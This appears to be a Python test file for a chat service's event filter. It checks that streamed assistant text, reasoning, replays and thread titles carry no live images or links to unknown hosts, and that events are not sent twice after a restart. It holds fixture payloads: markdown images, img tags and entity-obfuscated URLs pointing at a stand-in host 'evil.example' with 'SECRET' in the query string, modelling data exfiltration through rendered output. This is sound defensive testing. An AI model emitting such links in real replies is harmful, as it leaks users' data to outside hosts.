"""The events that reach clients: no image, no link to an unknown host, and no event twice after a restart."""

from collections.abc import Sequence
from typing import TYPE_CHECKING, Annotated, Literal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from typing_extensions import TypedDict

from api.events.filters import EventFilter, ReplayFilter
from api.events.frames import Event, Frame, encode
from graph.events.definitions import EVENTS, definitions_of
from graph.events.markers import KEY
from graph.events.sending import ReasoningDelta, TextDelta, TextWithdrawn
from graph.links.allowlist import HostAllowlist
from graph.links.filter import LinkFilter
from tests.rendering import Reading, read_as_people_do

if TYPE_CHECKING:
    from tests.e2e.person import Person

EVIL = "https://evil.example/x?d=SECRET"


PIECES = [
    "[a]",
    "(",
    f"({EVIL})",
    "![",
    "]",
    "`",
    "```\n",
    "\n",
    EVIL,
    "http:/",
    "/evil.example/x",
    "<img",
    " src=//e.com>",
    "w",
]


def event_filter() -> EventFilter:
    return EventFilter(LinkFilter(HostAllowlist()))


def test_a_link_does_not_leave_live_nor_when_it_is_read_again(alice: "Person") -> None:
    # In the message it stands otherwise: an address that the person wrote may come back.
    link = EVIL.replace("https", "h&#116;tps")
    with alice.chat(f"say ok ![a]({link}) [b]({link}) <img src={link}> end") as turn:
        turn.finish()
    assert read_as_people_do(turn.text) == Reading()
    assert turn.text.startswith("ok [a]")
    assert turn.text.endswith(" end")
    with alice.follow(turn.seen[0]["run_id"]) as again:
        again.finish()
    assert again.text == turn.text


def test_nothing_is_live_in_the_stream_the_replay_and_the_thread(alice: "Person") -> None:
    hostile = "mailto:!&#91;x&#93;(h&#116;tp://h/SECRET) `` ![x](h&#116;tp://h/SECRET) <img src=//h.example/SECRET>"
    with alice.chat(f"say {hostile}") as turn:
        turn.finish()
    with alice.follow(turn.seen[0]["run_id"]) as again:
        again.finish()
    thread = alice.http.get(f"/api/threads/{turn.seen[0]['thread_id']}").json()
    assert [message["role"] for message in thread["messages"]] == ["user", "assistant"]
    shown = {turn.text, again.text, thread["messages"][1]["text"], thread["title"]}
    assert len(shown) == 2
    assert [read_as_people_do(text) for text in shown] == [Reading(), Reading()]
    assert all("h/SECRET" in text for text in shown)


def test_what_the_person_wrote_themselves_may_come_back(alice: "Person") -> None:
    with alice.chat("say https://news.example.org/a is it") as turn:
        turn.finish()
    assert turn.text == "https://news.example.org/a is it"


def test_what_is_held_back_comes_before_the_next_event() -> None:
    said = event_filter()
    events = [*said.delta(TextDelta("m1", "see [a](")), *said.event({"type": "task_plan"})]
    assert "".join(event.get("text", "") for event in events) == "see [a] ("
    assert events[-1]["type"] == "task_plan"


def test_a_link_can_not_be_made_of_two_messages() -> None:
    said = event_filter()
    events = [
        *said.delta(TextDelta("m1", "see [a](")),
        *said.delta(TextDelta("m2", f"{EVIL})")),
        *said.end(),
    ]
    text = "".join(event["text"] for event in events)
    assert read_as_people_do(text) == Reading()


def test_titles_and_results_of_steps_and_texts_of_the_graph_are_cleaned_and_data_is_not() -> None:
    said = event_filter()
    link = f"[a]({EVIL})"
    events = [
        *said.event({"type": "task_plan", "plan_id": "p", "steps": [{"id": "1", "title": link}]}),
        *said.event({"type": "task_step_update", "step_id": "1", "status": "failed", "result": link, "error": link}),
        *said.event(message(link)),
        *said.event({"type": "tool_call_start", "tool_call_id": "1", "name": "x", "args": {"content": link}}),
    ]
    assert "](" not in str(events[:3])
    assert events[3]["args"] == {"content": link}


def test_texts_of_two_messages_do_not_run_together() -> None:
    said = event_filter()
    events = [
        *said.delta(TextDelta("m1", "First answer.")),
        *said.event({"type": "tool_progress", "tool_call_id": "1", "name": "x", "status": "done"}),
        *said.delta(TextDelta("m1", " Its end")),
        *said.delta(TextDelta("m2", "Second")),
        *said.event(message("Third\n")),
        *said.delta(TextDelta("m3", "Fourth")),
        *said.end(),
    ]
    assert "".join(event.get("text", "") for event in events) == "First answer. Its end\n\nSecond\n\nThird\nFourth"


def test_a_fence_that_is_closed_at_the_end_of_a_text_is_not_opened_by_the_next() -> None:
    said = event_filter()
    pieces = ["```\n", "[a]", f"```\n{EVIL}"]
    events = [event for piece in pieces for event in said.event(message(piece))]
    assert read_as_people_do("".join(event["text"] for event in events)) == Reading()


def test_each_piece_of_text_names_its_message_and_the_step_that_it_is_of() -> None:
    said = event_filter()
    step: Event = {"type": "task_step_update", "step_id": "s1", "status": "in-progress"}
    events = [
        *said.delta(TextDelta("m1", "Before. ")),
        *said.event(step),
        *said.delta(TextDelta("m2", "In the step. ")),
        *said.event({**step, "status": "completed"}),
        *said.event(message("After.")),
        *said.end(),
    ]
    texts = [event for event in events if event["type"] == "content" and event["text"].strip()]
    assert [(event["message_id"], event.get("step_id")) for event in texts] == [("m1", None), ("m2", "s1"), ("m", None)]


def test_what_goes_on_after_a_restart_is_of_the_message_that_is_stored() -> None:
    stored = [Frame(1, "content", encode({"type": "content", "text": "One and ", "message_id": "old"}))]
    said = EventFilter(LinkFilter(HostAllowlist()), stored)
    events = [*said.delta(TextDelta("new", "One and two ")), *said.delta(TextDelta("new", "")), *said.end()]
    assert [(event["text"].strip(), event["message_id"]) for event in events if event["text"].strip()] == [
        ("two", "old")
    ]
    said = EventFilter(LinkFilter(HostAllowlist()), stored)
    events = [*said.delta(TextDelta("new", "Otherwise ")), *said.delta(TextDelta("new", "")), *said.end()]
    assert [(event["message_id"], event.get("restarts")) for event in events][:1] == [("new", True)]


@given(st.lists(st.sampled_from(PIECES), max_size=12), st.data())
def test_the_content_of_a_run_is_inert_however_messages_and_events_follow_each_other(
    pieces: list[str], data: st.DataObject
) -> None:
    said, events = event_filter(), list[Event]()
    for piece in pieces:
        if data.draw(st.integers(0, 3)) == 0:
            events += said.event(message(piece))
        else:
            events += said.delta(TextDelta(data.draw(st.sampled_from(["m1", "m2"])), piece))
    events += said.end()
    text = "".join(event["text"] for event in events)
    assert read_as_people_do(text) == Reading(), text


@settings(deadline=None)
@given(st.lists(st.tuples(st.sampled_from(PIECES), st.sampled_from([TextDelta, ReasoningDelta])), max_size=12))
def test_reasoning_is_inert_and_apart_from_the_content_wherever_it_comes(
    pieces: list[tuple[str, type[TextDelta | ReasoningDelta]]],
) -> None:
    said, events = event_filter(), list[Event]()
    for piece, kind in pieces:
        events += said.delta(kind("m1", piece))
    events += said.end()
    for kind in ("content", "reasoning"):
        text = "".join(event["text"] for event in events if event["type"] == kind)
        assert read_as_people_do(text) == Reading(), text


def test_reasoning_names_its_message_and_step_and_is_sent_before_what_follows() -> None:
    said = event_filter()
    step: Event = {"type": "task_step_update", "step_id": "s1", "status": "in-progress"}
    events = [
        *said.event(step),
        *said.delta(ReasoningDelta("m1", "see [a](")),
        *said.delta(TextDelta("m1", "Yes. ")),
        *said.delta(TextDelta("m1", "")),
    ]
    thought = [event for event in events if event["type"] == "reasoning"]
    assert "".join(event["text"] for event in thought) == "see [a] ("
    assert {(event["message_id"], event["step_id"]) for event in thought} == {("m1", "s1")}
    assert [event["type"] for event in events if event.get("text")][-1] == "content"


def test_reasoning_between_texts_is_no_end_of_a_text_that_repeats() -> None:
    logged = [text("One "), {"type": "reasoning", "text": "hm", "message_id": "m"}, text("two ")]
    frames = [Frame(number, event["type"], encode(event)) for number, event in enumerate(logged, 1)]
    said = EventFilter(LinkFilter(HostAllowlist()), frames)
    deltas = [ReasoningDelta("n", "hm "), TextDelta("n", "One "), TextDelta("n", "two three "), TextDelta("n", "")]
    events = [event for delta in deltas for event in said.delta(delta)]
    assert [(event["type"], event["text"].strip()) for event in events if event["text"].strip()] == [
        ("content", "three")
    ]
    assert [event["type"] for event in said.delta(ReasoningDelta("o", "And now. "))] == ["reasoning"]


def message(text: str) -> Event:
    """Return the event of a text that the graph says itself."""
    return {"type": "content", "text": text, "message_id": "m"}


def text(delta: str) -> Event:
    return {"type": "content", "text": delta}


def replay(*logged: Event, said: Sequence[str] = ()) -> ReplayFilter:
    return ReplayFilter([Frame(number, event["type"], encode(event)) for number, event in enumerate(logged, 1)], said)


def heard(replayed: ReplayFilter, *deltas: str) -> list[Event]:
    return [event for delta in deltas for event in replayed.text(delta)]


START: Event = {"type": "tool_call_start", "tool_call_id": "1", "name": "t", "args": {}}
END: Event = {"type": "tool_call_end", "tool_call_id": "1", "name": "t", "status": "done", "duration_ms": 5}


def test_a_new_run_says_everything() -> None:
    assert heard(ReplayFilter(), "a", "a") == [text("a"), text("a")]
    assert list(ReplayFilter().event(START)) == [START]
    assert list(ReplayFilter().end()) == []


@pytest.mark.parametrize("deltas", [("one ", "two ", "three"), ("one two three",), tuple("one two three")])
def test_the_same_text_goes_on_where_it_broke(deltas: tuple[str, ...]) -> None:
    events = heard(replay(text("one "), text("tw")), *deltas)
    assert "".join(event["text"] for event in events) == "o three"
    assert not any("restarts" in event for event in events)


def test_another_text_begins_anew() -> None:
    replayed = replay(START, text("one two"))
    assert heard(replayed, "one ", "three", " four") == [{**text("one three"), "restarts": True}, text(" four")]


def test_a_shorter_text_begins_anew_when_it_ends() -> None:
    replayed = replay(text("one two"))
    assert heard(replayed, "one") == []
    assert list(replayed.end()) == [{**text("one"), "restarts": True}]


def test_the_whole_text_again_is_nothing_new() -> None:
    replayed = replay(text("one"))
    assert heard(replayed, "one") == []
    assert list(replayed.event(START)) == [START]


def test_text_of_the_thread_is_past_and_may_be_said_again() -> None:
    assert heard(replay(text("one"), START, END, said=["one"]), "one") == [text("one")]
    assert heard(replay(text("one"), said=["one"]), "one") == [text("one")]


def test_text_that_is_not_in_the_thread_is_repeated_though_events_followed_it() -> None:
    replayed = replay(text("one"), START, END, text("two"), START, said=["one"])
    assert heard(replayed, "t", "wo") == []
    assert list(replayed.event(START)) == []
    assert list(replayed.end()) == []
    assert heard(replayed, "three") == [text("three")]


def test_texts_of_several_steps_are_repeated_one_by_one() -> None:
    replayed = replay(text("one"), START, END, text("two three"), said=[])
    assert heard(replayed, "one") == []
    replayed.end_text()
    assert list(replayed.event(START)) == list(replayed.event(END)) == []
    assert heard(replayed, "two ", "four") == [{**text("two four"), "restarts": True}]


def test_texts_that_an_empty_line_keeps_apart_are_found_in_the_log() -> None:
    assert heard(replay(text("one"), START, text("\n\ntwo"), said=["one", "two"]), "two") == [text("two")]


def test_text_that_began_anew_counts_without_what_it_made_void() -> None:
    anew: Event = {**text("three"), "restarts": True}
    assert heard(replay(START, text("one"), anew, text(" four"), said=["three"]), " four", "!") == [text("!")]


def test_text_that_stands_otherwise_in_the_thread_is_compared_since_the_last_event() -> None:
    assert heard(replay(text("(link removed)"), START, text("two"), said=["(gone)"]), "two!") == [text("!")]


def test_events_after_a_text_that_repeats_are_dropped_too() -> None:
    step: Event = {"type": "task_step_update", "step_id": "1", "status": "in-progress"}
    replayed = replay(text("one"), step)
    assert heard(replayed, "one") == []
    replayed.end_text()
    assert list(replayed.event(step)) == []
    assert list(replayed.event({**step, "step_id": "2"})) != []


def test_a_text_that_no_model_made_is_not_said_twice() -> None:
    said = EventFilter(LinkFilter(HostAllowlist()), [Frame(1, "content", encode(message("All done.")))])
    assert list(said.event(message("All done."))) == []
    assert list(said.event(message("All done."))) == [message("\n\nAll done.")]


def test_nothing_is_held_back_when_a_message_ends() -> None:
    said = event_filter()
    events = [*said.delta(TextDelta("m1", "see [a](")), *said.delta(TextDelta(None, ""))]
    assert "".join(event["text"] for event in events) == "see [a] ("


def test_events_that_clients_have_are_dropped_until_the_first_new_one() -> None:
    route: Event = {"type": "route_decision", "agent": "a"}
    replayed = replay(route, START, text("on"))
    assert list(replayed.event(route)) == []
    assert heard(replayed, "one") == [text("e")]
    assert list(replayed.event(route)) == [route]


def test_a_call_starts_and_ends_once_though_it_took_another_time() -> None:
    replayed = replay(START, END)
    assert list(replayed.event({"type": "route_decision"})) != []
    assert list(replayed.event({**END, "duration_ms": 9})) == []
    assert list(replayed.event({**END, "tool_call_id": "2"})) != []


class ShoutEvent(TypedDict):
    type: Literal["shout"]
    shout_id: Annotated[str, KEY]
    words: str


def test_a_new_event_is_filtered_and_sent_once_by_its_definition_alone(monkeypatch: pytest.MonkeyPatch) -> None:
    for definition in definitions_of(ShoutEvent):
        monkeypatch.setitem(EVENTS, definition.name, definition)
    shout: Event = {"type": "shout", "shout_id": "1", "words": f"[a]({EVIL})"}
    (sent,) = event_filter().event(shout)
    assert sent["words"] == f"[a] (`{EVIL}`)"
    assert list(replay(sent).event({**shout, "words": "another"})) == []
    assert list(replay(sent).event({**shout, "shout_id": "2"})) != []


def test_text_that_was_thoughts_is_taken_back_and_the_text_before_it_stays() -> None:
    said = event_filter()
    events = [
        *said.event({"type": "content", "text": "Before.", "message_id": "m0"}),
        *said.delta(TextDelta("m1", "secret plan (")),
        *said.delta(TextWithdrawn("m1")),
        *said.delta(ReasoningDelta("m1", "secret plan (")),
        *said.delta(TextDelta("m1", "The answer.")),
        *said.end(),
    ]
    anew = max(place for place, event in enumerate(events) if event.get("restarts"))
    texts = [event["text"] for event in events[anew:] if event["type"] == "content"]
    assert "".join(texts).split() == ["Before.", "The", "answer."]
    assert "secret plan" in "".join(event["text"] for event in events if event["type"] == "reasoning")
